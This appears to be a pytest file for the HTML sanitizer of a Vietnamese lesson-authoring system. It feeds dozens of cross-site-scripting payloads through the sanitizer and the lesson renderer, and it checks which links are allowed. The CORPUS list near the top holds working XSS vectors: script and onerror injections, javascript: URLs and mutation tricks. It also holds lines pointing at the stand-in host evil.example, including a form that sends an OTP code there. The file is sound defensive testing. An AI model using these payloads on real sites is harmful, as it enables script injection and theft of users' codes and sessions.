"""Hostile texts through the two gates, alone and on the ways an author's text takes."""

import re
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from lms.library.books import Check, Fact, Html
from lms.library.lesson_html import Workshop, read_steps, to_html
from lms.library.problems import Findings, Place
from lms.sanitize import ATTRIBUTES, CLASSES, OWN_CLASS, TAGS, is_allowed_link, is_local, sanitize

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<img src=//evil.example/p.png>",
    "<img src='/\\evil.example/p.png'>",
    "<img src='/\t/evil.example/p.png'>",
    "<img srcset='https://evil.example/p.png 2x' src='/a.png'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=otp><button>Gửi</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div class='story evil' id=main name=main onclick=alert(1)>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://dichvucong.gov.vn@evil.example/'>x</a>",
    "<a href='https://evil.example/.gov.vn'>x</a>",
    "<a href='https://gov.vn.evil.example'>x</a>",
    "<a href='https://evil.example?gov.vn' target=_blank rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](//evil.example \"a\")",
    "![x](https://evil.example/p.png)",
    "![x\" onerror=\"alert(1)](/a.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<b><![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "[[từ|<script>alert(1)</script>]]",
    "[[<img src=x onerror=alert(1)>|nghĩa]]",
    "{{fact:f.hostile}}",
    "[x]({{fact:f.link}})",
    "`{{fact:f.hostile}}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]  # fmt: skip
ONLY_IN_FACTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "**đậm** [x](//e.example)",
]
PATH = Path("lesson.md")


class Tags(HTMLParser):
    """What a browser would make of the result."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Tags(html).found:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert name in ATTRIBUTES.get(tag, frozenset()) or (tag, name) == ("a", "rel"), (tag, name)
            if name == "class":
                assert all(one in CLASSES or OWN_CLASS.fullmatch(one) for one in value.split())
            if name in ("href", "src"):
                assert is_allowed_link(value), value
            if name == "src":
                assert is_local(value), value


def lesson(text: str, facts: dict[str, Fact] | None = None) -> str:
    workshop = Workshop(Findings(), facts or {})
    lines = ["## Bước {#buoc}", "", *text.split("\n")]
    steps = read_steps(lines, PATH, 1, workshop)
    return "\n".join(part.html for step in steps for part in step.parts if isinstance(part, Html))


def fact(fact_id: str, value: str) -> Fact:
    return Fact(fact_id, "câu.", "nguồn", "cao", date(2026, 1, 1), date(2027, 1, 1), value)


FACTS = {
    "f.hostile": fact("f.hostile", "<script>alert(1)</script>\"'"),
    "f.link": fact("f.link", "javascript:alert(1)"),
}


@pytest.mark.parametrize("payload", CORPUS)
def test_hostile_text_comes_out_harmless(payload: str) -> None:
    assert_harmless(sanitize(payload))
    assert sanitize(sanitize(payload)) == sanitize(payload)


@pytest.mark.parametrize("payload", CORPUS)
@pytest.mark.parametrize(
    "frame",
    [
        "{}",
        "::: chuyen\n{}\n:::",
        "::: man-hinh phone\n- tin: {}\n- link: {}\n:::",
        "| a | b |\n|---|---|\n| {} | x |",
        "> - {}",
        "[[từ|{}]]",
    ],
)
def test_hostile_lessons_come_out_harmless(payload: str, frame: str) -> None:
    assert_harmless(lesson(frame.replace("{}", payload), FACTS))
    assert_harmless(to_html(payload, Place(PATH), Workshop(Findings(), FACTS)))


@pytest.mark.parametrize("value", ONLY_IN_FACTS + CORPUS)
def test_a_fact_is_never_markup(value: str) -> None:
    facts = {"f.x": fact("f.x", value)}
    for frame in (
        "Số {{fact:f.x}} đây.",
        "::: man-hinh phone\n- so: Số {{fact:f.x}} đây.\n:::",
        "`Số {{fact:f.x}} đây.`",
    ):
        html = lesson(frame, facts)
        assert_harmless(html)
        plain = Tags(html).text
        assert f"Số {' '.join(value.split())} đây." in " ".join(plain.split()), plain


def test_no_text_of_a_removed_script_is_left_by_the_second_gate() -> None:
    assert "alert" not in lesson("Chào <!-- alert(1) --> em")


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("#buoc", True), ("/khoa-hoc/", True), ("https://dichvucong.gov.vn/p/home", True), ("https://gov.vn", True),
        ("mailto:a@b.vn", True), ("http://dichvucong.gov.vn", False), ("https://dichvucong.gov.vn.evil.example", False),
        ("https://x-gov.vn", False), ("//dichvucong.gov.vn", False), ("/\\evil", False),
        ("https://a@dichvucong.gov.vn", False),
        ("trang.html", False), ("", False), ("https://[", False), ("mailto:x", False), ("/a\nb", False),
    ],
)  # fmt: skip
def test_where_a_link_may_lead(address: str, allowed: bool) -> None:
    assert is_allowed_link(address) is allowed


def test_what_a_lesson_needs_passes_unchanged() -> None:
    html = (
        '<div class="remember">\n<p><strong>Nhớ</strong> <em>kỹ</em></p>\n</div>'
        '<ol><li>một</li></ol><details><summary>Xem</summary><p>a</p></details>'
        '<img src="/hinh/a.png" alt="ảnh" width="320" height="200" loading="lazy">'
    )  # fmt: skip
    assert sanitize(html) == html


def test_inline_checks_keep_their_places_between_segments() -> None:
    text = "## Một {#mot}\nA\n::: kiem-tra q.a\n:::\nB\n::: kiem-tra q.b\n:::\n## Hai {#hai}\nC"
    lines = text.splitlines()
    findings = Findings()
    steps = read_steps(lines, PATH, 1, Workshop(findings, {}))
    assert findings.in_order() == []
    assert [part if isinstance(part, Check) else re.sub(r"<.*?>", "", part.html) for part in steps[0].parts] == [
        "A", Check("q.a"), "B", Check("q.b"),
    ]  # fmt: skip
    assert (steps[1].id, steps[1].title) == ("hai", "Hai")
